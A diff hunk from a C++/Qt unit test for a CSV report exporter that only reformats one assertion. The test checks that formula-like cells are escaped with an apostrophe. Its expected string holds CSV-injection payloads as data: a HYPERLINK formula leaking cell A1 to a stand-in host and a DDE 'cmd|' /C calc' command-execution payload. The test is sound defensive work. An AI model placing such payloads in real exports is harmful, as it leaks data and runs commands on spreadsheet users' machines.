@@ -297,9 +297,10 @@ TEST(RelatorioCsv, TextoQueSeriaFormulaVaiComoTexto)
     r.Linhas << c;
     const QStringList linhas = QString::fromUtf8(RelatorioEmCsv(r).mid(3)).split("\r\n");
     ASSERT_EQ(linhas.size(), 3);
-    EXPECT_EQ(linhas[1], QStringLiteral("08/12/2026 12:00:00;0001;-12;'@SUM(A1:A9);'+5;000001;P1;"
-                                        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Clique\"\")\";1,5;-7,02;"
-                                        "'\tOPER1;\"'\r=1+1\";03;'-1+cmd|' /C calc'!A0"));
+    EXPECT_EQ(linhas[1],
+              QStringLiteral("08/12/2026 12:00:00;0001;-12;'@SUM(A1:A9);'+5;000001;P1;"
+                             "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Clique\"\")\";1,5;-7,02;"
+                             "'\tOPER1;\"'\r=1+1\";03;'-1+cmd|' /C calc'!A0"));
 }
 
 // A target that is there and is not a regular file (a device, a pipe) is
